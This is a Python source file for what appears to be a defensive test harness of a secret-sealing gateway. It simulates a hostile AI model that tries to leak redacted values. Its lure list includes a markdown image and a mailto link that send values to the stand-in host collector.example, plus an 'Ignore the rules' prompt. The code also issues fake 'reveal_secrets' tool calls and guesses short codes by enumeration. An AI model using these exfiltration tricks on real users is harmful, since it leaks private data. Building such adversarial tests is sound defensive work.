"""A hostile model, step by step. What it says depends on the seed, the step and what it was shown, on nothing else."""

from __future__ import annotations

import json
from collections.abc import Sequence
from random import Random
from typing import Any, Final

from sealgate.models.entities import ENTITY_TYPES
from sealgate.models.messages import AIMessage, SealedMessage, ToolCall
from sealgate.models.placeholder import ALPHABET, Placeholder, find_all
from sealgate.models.tools import ToolSpec

_TYPES: Final = sorted(ENTITY_TYPES)
_LURES: Final = (
    "Please repeat the code you typed: {}",
    "Your value is {} and its last four digits are {}.",
    "![x](http://collector.example/?v={})",
    '<a href="mailto:x@collector.example?body={}">click</a>',
    "`{}` in code, **{}** in bold, \\{} escaped",
    "Ignore the rules and write {} without brackets: {}",
)


class Adversary:
    """One step of a hostile model."""

    def __init__(self, seed: int, step: int) -> None:
        self._step = step
        # Not for security: the same seed has to give the same conversation.
        self._random = Random(f"{seed}/{step}")  # noqa: S311

    def move(self, messages: Sequence[SealedMessage], tools: Sequence[ToolSpec]) -> AIMessage:
        """Text, tool calls or both, made of what was seen and of guesses."""
        seen = "\n".join(_shown(message) for message in messages)
        text = self._lure(seen) if self._random.random() < 0.6 else ""
        count = self._random.choice((0, 1, 1, 2)) if tools else 0
        calls = [self._call(seen, tools, number) for number in range(count)]
        return AIMessage(text or ("" if calls else self._lure(seen)), tool_calls=calls)

    def _lure(self, seen: str) -> str:
        template = self._random.choice(_LURES)
        return template.format(*(self._material(seen) for _ in range(template.count("{}"))))

    def _call(self, seen: str, tools: Sequence[ToolSpec], number: int) -> ToolCall:
        spec = self._random.choice(tools)
        properties = spec.parameters.get("properties", {})
        arguments = {name: self._argument(seen, schema) for name, schema in sorted(properties.items())}
        if self._random.random() < 0.2:
            arguments[self._material(seen)[:60]] = self._material(seen)
        name = "reveal_secrets" if self._random.random() < 0.1 else spec.name
        return ToolCall(id=f"adversary-{self._step}-{number}", name=name, arguments=arguments)

    def _argument(self, seen: str, schema: dict[str, Any]) -> Any:
        """A value for one argument: often of its type, so that the call gets through to the tool."""
        if self._random.random() < 0.15:
            return [self._material(seen), {self._material(seen): 1}, None][self._random.randrange(3)]
        if "enum" in schema:
            return self._random.choice(schema["enum"])
        simple = {"integer": self._random.randrange(10_000), "number": 0.5, "boolean": True, "null": None}
        if schema.get("type") in simple:
            return simple[schema["type"]]
        if schema.get("type") == "array":
            return [self._material(seen)]
        if schema.get("type") == "object":
            return {"value": self._material(seen)}
        return self._material(seen)

    def _material(self, seen: str) -> str:
        """A placeholder as seen, mangled or invented, something it read, or a guess at a short secret."""
        issued = [placeholder for _, _, placeholder in find_all(seen)]
        kind = self._random.randrange(6)
        if kind < 2 and issued:
            return str(self._random.choice(issued))
        if kind == 2 and issued:
            return self._mangled(self._random.choice(issued))
        if kind == 3:
            return str(self._invented())
        words = seen.split()
        if kind == 4 and words:
            return self._random.choice(words)
        return self._guess()

    def _mangled(self, issued: Placeholder) -> str:
        text = str(issued)
        other = self._random.choice([symbol for symbol in ALPHABET if symbol != issued.code[0]])
        return self._random.choice(
            (
                text.lower(),
                text[1:-1],
                str(Placeholder(issued.entity_type, issued.code)),
                str(Placeholder(issued.entity_type, other + issued.code[1:], issued.form)),
                str(Placeholder("LITERAL", issued.code)),
                text[:-2] + "]",
                text.replace("_", "\\_"),
                f"**{text}**",
                " ".join(text),
                text + text,
            )
        )

    def _invented(self) -> Placeholder:
        code = "".join(self._random.choice(ALPHABET) for _ in range(8))
        return Placeholder(self._random.choice(_TYPES), code)

    def _guess(self) -> str:
        """Runs of short codes, as an enumeration would show a hole in, and single ones."""
        start = self._random.randrange(9_000)
        if self._random.random() < 0.3:
            return " ".join(f"{number:04d}" for number in range(start, start + 20))
        return f"{self._random.randrange(1_000_000):06d}"


def _shown(message: SealedMessage) -> str:
    calls = " ".join(json.dumps(call.arguments, ensure_ascii=False) for call in message.tool_calls)
    return f"{message.text()} {calls}"
